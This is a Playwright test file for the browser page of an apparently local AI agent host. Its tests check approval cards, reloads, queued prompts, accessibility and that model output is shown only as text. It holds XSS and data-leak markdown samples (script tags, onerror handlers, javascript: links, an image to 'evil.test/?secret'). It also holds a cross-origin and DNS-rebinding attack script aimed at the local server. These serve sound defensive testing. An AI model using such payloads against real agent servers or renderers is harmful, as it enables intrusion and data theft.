"""The page in a real Chromium (issue D, part 2; R3)."""

from __future__ import annotations

import gzip
import hashlib
import http.server
import re
import signal
import threading
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from .conftest import ASKS, Server, expect, finished, say

ROOT = Path(__file__).resolve().parents[3]
BUILT, SOURCES = ROOT / "host" / "moryflow" / "server" / "page", ROOT / "host" / "web"
AXE = SOURCES / "node_modules" / "axe-core" / "axe.min.js"
LIMIT = 80 * 1024


def test_the_built_page_is_that_of_the_sources() -> None:
    """Whoever changes host/web builds it: `npm ci && npm run build` there."""
    files = [*sorted((SOURCES / "src").iterdir(), key=lambda path: path.name), SOURCES / "package-lock.json"]
    found = hashlib.sha256(b"".join(path.read_bytes() for path in files)).hexdigest()
    assert (BUILT / "sources.sha256").read_text().strip() == found


def test_the_page_is_small_and_asks_nobody() -> None:
    """At most 80 KB compressed, and half as much for what is fetched when it is used; the lock names no registry."""
    files = [path for path in sorted(BUILT.iterdir()) if path.suffix in (".js", ".css", ".html")]
    later = [path for path in files if path.name in ("highlight.js", "lean-qr.js")]
    assert len(gzip.compress(b"".join(path.read_bytes() for path in files if path not in later))) <= LIMIT
    assert len(later) == 2
    assert sum(len(gzip.compress(path.read_bytes())) for path in later) <= LIMIT // 2
    assert "http" not in (SOURCES / "package-lock.json").read_text()


def test_every_word_is_there_in_both_languages() -> None:
    """English and Chinese come from one table."""
    text = (SOURCES / "src" / "strings.js").read_text()
    english, chinese = (set(re.findall(r"(\w+): \"", part)) for part in text.split("const ZH")[:2])
    assert english == chinese
    used = {word for path in (SOURCES / "src").glob("*.js") for word in re.findall(r"\bt\(\"(\w+)\"\)", path.read_text())}
    assert used <= english


def test_prompt_tool_approval_result_reload(server: Server, tab: Callable[..., Any]) -> None:
    """The whole way, and the same state after a reload (S0.47, S0.9)."""
    session = server.session(ASKS, "All **done**.")
    page = tab(server, session)
    assert "#code" not in page.url
    say(page, "Do it")
    card = page.locator(".card", has_text="danger")
    card.locator(".question").wait_for()
    expect(page).to_have_title(re.compile(r"^\? "))
    expect(page.locator("link[rel=icon]")).to_have_attribute("href", "/page/asking.svg")
    expect(card.locator(".question .always")).to_have_text("Always: danger")
    assert page.locator(".question button.primary").evaluate("button => button !== document.activeElement")
    page.keyboard.press("Tab")
    page.locator(".sessions .new").focus()
    page.keyboard.press("g")
    page.keyboard.press("a")
    page.locator(".question:focus").wait_for()
    page.keyboard.press("o")
    finished(page, "All done.")
    assert (server.home.parent / "files" / "did").read_text() == "a thing"
    page.locator(".card.ok .time").wait_for()
    before = page.locator("[role=log]").evaluate(TIMELESS)
    page.reload()
    page.locator(".markdown strong", has_text="done").wait_for()
    page.locator(".card.ok .time").wait_for()
    assert page.locator("[role=log]").evaluate(TIMELESS) == before
    expect(page).to_have_title("Do it · Moryflow")


TIMELESS = """log => {
    const copy = log.cloneNode(true);
    for (const time of copy.querySelectorAll(".time")) time.textContent = "";
    return copy.textContent;
}"""


def test_two_tabs_and_a_refusal(server: Server, tab: Callable[..., Any]) -> None:
    """What one tab does the other shows; the card is gone where it was answered elsewhere."""
    session = server.session(ASKS, "As you like.")
    one, other = tab(server, session), tab(server, session)
    say(one, "Do it")
    other.locator(".question").wait_for()
    one.locator(".question").wait_for()
    one.locator(".question .answers button", has_text="Refuse").click()
    one.locator(".question form input").fill("not today")
    one.keyboard.press("Enter")
    other.locator(".markdown", has_text="As you like.").wait_for()
    expect(other.locator(".question")).to_have_count(0)
    expect(other.locator(".card.denied")).to_have_count(1)
    [answered] = server.get("/approvals")
    assert (answered["reply"], answered["message"]) == ("reject", "not today")


def test_a_question_of_another_session_is_found(server: Server, tab: Callable[..., Any]) -> None:
    """The bar leads there, whoever asks."""
    quiet, asking = server.session("Hello."), server.session(ASKS, "Done.")
    page = tab(server, quiet)
    server.post(f"/sessions/{asking}/prompt", {"text": "go"}, 202)
    page.locator(".asks button", has_text="danger").click()
    page.locator(".question:focus").wait_for()
    page.locator(".question").press("s")  # the session is still being loaded, and a card that is drawn anew has no focus
    expect(page.locator(".ended", has_text="stopped")).to_be_visible()


@pytest.mark.slow
def test_a_killed_server_loses_nothing_of_a_tab(start: Callable[..., Server], tab: Callable[..., Any]) -> None:
    """kill -9 with five tabs open: each says so, keeps what is typed, and goes on with the next server of the port."""
    server = start()
    session = server.session("One.", "Two.")
    page, *others = [tab(server, session) for _ in range(5)]
    say(page, "first")
    for one in (page, *others):
        finished(one, "One.")
    server.end(signal.SIGKILL)
    for one in (page, *others):
        one.locator(".offline").wait_for()
    say(page, "second")
    page.locator(".queue li", has_text="second").wait_for()
    with page.expect_event("requestfailed", lambda request: request.url.endswith("/command")):
        say(page, "/undo")
    expect(page.locator("#message")).to_have_value("/undo")
    expect(page.locator(".queue li")).to_have_count(1)
    page.fill("#message", "a draft")
    start(port=server.port)
    page.locator(".markdown", has_text="One.").nth(1).wait_for()  # the script begins anew with its process
    for one in (page, *others):
        one.locator(".markdown", has_text="One.").nth(1).wait_for()
        one.locator(".offline").wait_for(state="detached")
    expect(page.locator("#message")).to_have_value("a draft")
    expect(page.locator("article.user")).to_have_count(2)
    page.reload()
    expect(page.locator(".composer #message")).to_have_value("a draft")


def test_a_prompt_waits_while_another_runs(server: Server, tab: Callable[..., Any]) -> None:
    """It is shown as queued, and sent when the turn is over."""
    session = server.session({"calls": [{"name": "hold", "arguments": {}}]}, "One.", "Two.")
    page = tab(server, session)
    say(page, "first")
    page.locator(".card.running").wait_for()
    say(page, "second")
    page.locator(".queue li", has_text="second").wait_for()
    (server.home.parent / "files" / "go").touch()
    page.locator(".markdown", has_text="Two.").wait_for()
    expect(page.locator(".queue li")).to_have_count(0)


def test_full_access_is_confirmed_once(server: Server, tab: Callable[..., Any]) -> None:
    """Per session, left of the input (S0.69); no keeps the mode as it is."""
    session = server.session("One.")
    page = tab(server, session)
    changes: list[str] = []
    page.on("request", lambda request: request.method == "PATCH" and changes.append(request.post_data))
    mode = page.locator("select.mode")
    mode.select_option("full_access")
    page.locator("dialog button", has_text="Cancel").click()
    expect(page.locator("dialog")).to_have_count(0)
    assert server.get(f"/sessions/{session}")["mode"] == "agent"
    mode.select_option("full_access")
    page.locator("dialog button", has_text="Yes").click()
    page.locator("select.mode.full_access").wait_for()
    assert server.get(f"/sessions/{session}")["mode"] == "full_access"
    assert len(changes) == 1


def test_a_long_output_is_read_by_range(server: Server, tab: Callable[..., Any]) -> None:
    """A badge, and the whole on demand (S0.56)."""
    session = server.session({"calls": [{"name": "lengthy", "arguments": {"text": "abc", "times": 40_000}}]}, "Done.")
    page = tab(server, session)
    say(page, "go")
    page.locator(".badge", has_text="truncated").wait_for()
    page.locator(".card .whole", has_text="View full output").click()
    page.locator(".card .output").wait_for()
    while page.locator(".card button", has_text="More").count():
        size = page.evaluate("document.querySelector('.card .output').textContent.length")
        page.locator(".card button", has_text="More").click()
        page.wait_for_function("size => document.querySelector('.card .output').textContent.length > size", arg=size)
    assert page.evaluate("document.querySelector('.card .output').textContent") == "abc\n" * 40_000


HOSTILE = """<script>document.title = "taken"</script> <img src=x onerror="document.title='taken'">
[link](javascript:document.title='taken') [data](data:text/html,hi) ![leak](https://evil.test/?secret) ![](http://evil.test/x)
<iframe src="https://evil.test"></iframe> \u202egnihton\u202c <style>body{display:none}</style>

[ok](https://example.org/a)

![ref][leak]

[leak]: https://evil.test/ref
"""


def test_what_a_model_writes_is_text(server: Server, tab: Callable[..., Any]) -> None:
    """HTML, scripts' links, images from elsewhere, streamed and whole: no request leaves the page (R3)."""
    call = {"name": "lengthy", "arguments": {"text": HOSTILE, "times": 2}}
    session = server.session({"text": HOSTILE, "calls": [call]}, HOSTILE)
    page = tab(server, session)
    say(page, HOSTILE)
    expect(page.locator(".assistant:not(.live) .markdown a", has_text="ok")).to_have_count(2)
    expect(page.locator(".doing")).to_have_count(0)
    page.locator(".card-head").click()
    page.locator(".card-body").wait_for()
    links = page.eval_on_selector_all("[role=log] a", "all => all.map(one => one.getAttribute('href'))")
    assert {link for link in links if link and not link.startswith(("http:", "https:", "mailto:"))} == set()
    for forbidden in ("script", "iframe", "style", "img", "[onerror]"):
        assert page.locator(f"[role=log] {forbidden}").count() == 0, forbidden
    assert page.title() != "taken"
    page.reload()
    expect(page.locator(".markdown a", has_text="ok")).to_have_count(2)


NOTED = """() => {
    window.noted = new Set();
    const note = () => document.querySelectorAll(".markdown [class], .markdown a").forEach(one =>
        noted.add(one.tagName === "A" ? `${one.href} ${one.target}` : one.className));
    new MutationObserver(note).observe(document.body, {childList: true, subtree: true, attributes: true});
}"""


def test_a_model_names_no_part_of_the_page(server: Server, tab: Callable[..., Any]) -> None:
    """Its code has the class of a language only, and its links leave the tab alone, also while they stream (R3)."""
    code = "```question card\nMay it?\n```\n\n```x&#32;question\n```"
    session = server.session(f"{code}\n\n[a](https://example.org/a)\n\n$A &amp; $B")
    page = tab(server, session)
    page.evaluate(NOTED)
    say(page, "Go on")
    page.locator(".assistant:not(.live) .markdown", has_text="$A & $B").wait_for()
    assert set(page.evaluate("[...noted]")) == {
        "language-question", "language-x", "language-x&#32;question", "copy", "https://example.org/a _blank",
    }  # fmt: skip


def test_a_long_text_is_shown_as_if_it_were_read_in_one_piece(server: Server, tab: Callable[..., Any]) -> None:
    """Its addresses stand at its end, what only looks like one is text, and code in a list keeps its lines (R3)."""
    addresses = "\n".join(f"[{number}]: https://example.org/{'long/' * 20}{number}" for number in range(1, 31))
    code = "- a\n  ```\n  x\n\n  y\n  ```"
    session = server.session(f"[INFO]: it runs on port 80\n\n{'word ' * 120}\n\n{code}\n\nSee [the last][30].\n\n{addresses}")
    page = tab(server, session)
    say(page, "Go on")
    text = page.locator(".assistant:not(.live) .markdown")
    text.get_by_role("link", name="the last").wait_for()
    assert (text.text_content() or "").count("[INFO]") == 1
    assert text.locator("pre code").text_content() == "x\n\ny\n"
    assert (text.get_by_role("link", name="the last").get_attribute("href") or "").endswith("/30")


def test_a_long_list_keeps_its_code(server: Server, tab: Callable[..., Any]) -> None:
    """It is read by items, not by the parser of the stream, which knows no code in a list (R3)."""
    page = tab(server, server.session("- a\n  ```\n  x\n\n  y\n  ```\n" * 300))
    say(page, "Go on")
    code = page.locator(".assistant:not(.live) .markdown li pre code")
    expect(code).to_have_count(300)
    assert set(code.all_text_contents()) == {"x\n\ny\n"}


@pytest.mark.slow
@pytest.mark.parametrize(
    "text",
    [
        "|" + "a|" * 1_000 + "\n|" + "-|" * 1_000 + "\n" + "|a\n" * 20_000,
        "a\n=\n\n" * 50_000,
        "> " * 20_000 + "x",
        ">a\n\n" * 50_000,
        "[a](" * 50_000,
        "*_" * 50_000 + "a" + "_*" * 50_000,
        "- a\n\n  - b\n\n    - c\n\n" * 10_000,
    ],
    ids=["table", "headings", "deep", "quotes", "links", "emphasis", "lists"],
)
def test_no_text_holds_the_page_up(server: Server, tab: Callable[..., Any], text: str) -> None:
    """What takes a parser minutes, or a browser all its memory, is shown in seconds; the next prompt is answered (R3)."""
    page = tab(server, server.session(text, "Next."))
    say(page, "go")
    page.locator(".assistant:not(.live) .markdown > *").first.wait_for()
    page.reload()
    say(page, "more")
    expect(page.locator(".markdown", has_text="Next.")).to_be_visible(timeout=30_000)


def test_a_line_of_five_megabytes_is_shown(server: Server, tab: Callable[..., Any]) -> None:
    """It is text, and the page goes on."""
    session = server.session("x" * 5_000_000, "Next.")
    page = tab(server, session)
    say(page, "go")
    page.locator(".markdown pre").wait_for()
    say(page, "more")
    expect(page.locator(".markdown", has_text="Next.")).to_be_visible()


def test_a_turn_that_ends_while_the_page_loads_holds_nothing_up(server: Server, tab: Callable[..., Any]) -> None:
    """A snapshot older than the turn's end does not leave the next prompt in the queue; neither does a 409 (S0.47)."""
    session = server.session(ASKS, "Answered.", "Second.", "Third.")
    page = tab(server, session)
    say(page, "one")
    page.locator(".question").wait_for()
    path, late, over = f"/sessions/{session}?limit=200", [], threading.Event()
    busy = server.get(path)
    page.route(lambda address: address.endswith(path), lambda route: route.continue_() if over.is_set() else late.append(route))
    with page.expect_response("**/events"), page.expect_request(lambda request: request.url.endswith(path)):
        page.reload()
    with server.stream() as stream:
        [question] = busy["approvals"]
        server.post(f"/approvals/{question['id']}", {"reply": "once", "hash": question["request"]["hash"]})
        stream.until("session.status", status="idle")
    page.locator(".markdown", has_text="Answered.").wait_for()
    over.set()
    for route in late:
        route.fulfill(json=busy)
    say(page, "two")
    page.locator(".markdown", has_text="Second.").wait_for()
    page.route("**/prompt", lambda route: route.fulfill(status=409, json={"code": "busy", "message": "", "next": ""}), times=1)
    say(page, "three")
    page.locator(".markdown", has_text="Third.").wait_for()


ATTACKS = """async ([own, token]) => {
    const put = (kind, fields) => document.documentElement.appendChild(Object.assign(document.createElement(kind), fields));
    const loaded = (kind, address) => new Promise((got, not) =>
        put(kind, {src: address, onload: () => got({status: 200}), onerror: not}));
    const framed = (address) => new Promise((got) => {
        const frame = put("iframe", {src: address});
        frame.onload = () => got({status: frame.contentDocument?.body.childElementCount ? 200 : 0});
    });
    const followed = (address) => new Promise((got, not) =>
        Object.assign(new EventSource(address), {onmessage: got, onopen: () => got({status: 200}), onerror: not}));
    const sent = (address) => {
        put("iframe", {name: "away"});
        const form = put("form", {action: address, method: "post", target: "away", enctype: "text/plain"});
        form.innerHTML = "<input name='{}' value=''>";
        form.submit();
        return new Promise((got) => setTimeout(got, 300, null));
    };
    const post = {method: "POST", body: "{}"}, all = own + "/sessions";
    const tries = [
        fetch(all), fetch(all, {headers: {Authorization: "Bearer " + token}}), fetch(all, {...post, mode: "no-cors"}),
        fetch(all, {...post, headers: {"Content-Type": "application/json"}}), fetch(own + "/events", {mode: "no-cors"}),
        fetch(all, {...post, mode: "no-cors", headers: {"Content-Type": "text/plain"}}), fetch(all, {method: "DELETE"}),
        loaded("script", own + "/page/page.js"), loaded("img", own + "/page/icon.svg"), followed(own + "/events"),
        framed(own + "/"), sent(all),
    ];
    const seen = reply => reply && reply.type !== "opaque" ? reply.status : 0;
    return (await Promise.allSettled(tries)).map(one => seen(one.value));
}"""


@pytest.mark.parametrize("origin", ["http://evil.test:{other}", "http://127.0.0.1:{other}", "http://rebind.test:{own}"])
def test_a_foreign_page_gets_nothing(server: Server, browser: Any, origin: str) -> None:
    """Another site, another port of this machine, and another name for ours: none of twelve ways is answered (R2)."""
    foreign = http.server.ThreadingHTTPServer(("127.0.0.1", 0), _Blank)
    threading.Thread(target=foreign.serve_forever, daemon=True).start()
    own = f"http://127.0.0.1:{server.port}"
    page = browser.new_page()
    try:
        address = origin.format(other=foreign.server_port, own=server.port)
        reply = page.goto(address)
        if "rebind" in address:
            assert reply.status == 421
            own = address
        found = page.evaluate(
            ATTACKS,
            [own, server.token],
        )
        assert set(found) <= {0, 403, 421}
        assert server.get("/sessions") == []
    finally:
        page.close()
        foreign.shutdown()
        foreign.server_close()


class _Blank(http.server.BaseHTTPRequestHandler):
    def do_GET(self) -> None:
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.end_headers()
        self.wfile.write(b"<title>foreign</title>")

    def log_message(self, *_: object) -> None:
        pass


PANELS = (".none", ".tree li", ".blocks li", ".plugins li", ".figures")
"""What stands in each panel once it is loaded."""


@pytest.mark.parametrize(
    ("width", "scheme", "language"), [(1280, "light", "en"), (1280, "dark", "zh-CN"), (390, "dark", "en"), (390, "light", "en")]
)
def test_nothing_stands_in_the_way_of_anybody(
    server: Server, tab: Callable[..., Any], width: int, scheme: str, language: str
) -> None:
    """axe finds nothing with each panel open; a phone scrolls in one direction only."""
    if not AXE.exists():
        pytest.skip("no axe-core on this machine: npm ci in host/web")
    session = server.session(ASKS, "# A heading\n\nSome text.\n\n| a | b |\n|---|---|\n| 1 | 2 |")
    page = tab(server, session, viewport={"width": width, "height": 800}, color_scheme=scheme, locale=language)
    say(page, "Do it")
    page.locator(".question").wait_for()
    expect(page.locator(".session-head nav button")).to_have_count(len(PANELS))
    for place in (None, *range(len(PANELS))):
        if place is not None:
            page.locator(".session-head nav button").nth(place).click()
            page.locator(".panel").locator(PANELS[place]).first.wait_for()
        assert page.evaluate("document.documentElement.scrollWidth <= innerWidth")
        page.evaluate(f"{AXE.read_text()}; 0")
        found = page.evaluate("axe.run(document, {resultTypes: ['violations']})")
        assert [(one["id"], one["nodes"][0]["html"][:200]) for one in found["violations"]] == [], place
        if place is not None:
            page.locator(".panel > header button").click()


def test_a_branch_is_edited_and_the_tree_leads_back(server: Server, tab: Callable[..., Any]) -> None:
    """Edit a prompt, send it again, and go back to the first branch; a label is shown."""
    session = server.session("One.", "Two.")
    page = tab(server, session)
    say(page, "first")
    finished(page, "One.")
    page.locator("article.user").hover()
    page.locator("article.user button", has_text="Edit and branch").click()
    expect(page.locator("#message")).to_have_value("first")
    say(page, "second")
    finished(page, "Two.")
    page.locator(".session-head nav button", has_text="Tree").click()
    page.locator(".tree button", has_text="One.").click()
    page.locator(".transcript .markdown", has_text="One.").wait_for()
    expect(page.locator(".transcript .markdown", has_text="Two.")).to_have_count(0)


def test_many_cards_stay_usable(server: Server, tab: Callable[..., Any]) -> None:
    """What is older is fetched on demand, stays when the session is loaded anew, and costs nothing off the screen."""
    session = _many(server)
    page = tab(server, session)
    page.locator(".older").click()
    page.wait_for_function("() => document.querySelectorAll('article').length > 400")
    with page.expect_response(lambda reply: reply.url.endswith(f"{session}?limit=200")):
        server.post(f"/sessions/{session}/label", {"label": "loads the page anew"})
    say(page, "still there?")
    page.locator(".markdown", has_text="Last.").wait_for()
    assert page.locator("article").count() > 400


def _many(server: Server) -> str:
    """A session of eight turns with fifty calls each."""
    turns = [
        [{"name": "lengthy", "arguments": {"text": f"{turn}.{one}", "times": 1}} for one in range(50)] for turn in range(8)
    ]
    session = server.session(*(answer for calls in turns for answer in ({"calls": calls}, "Done.")), "Last.")
    for _ in turns:
        server.whole_turn(session)
    return session
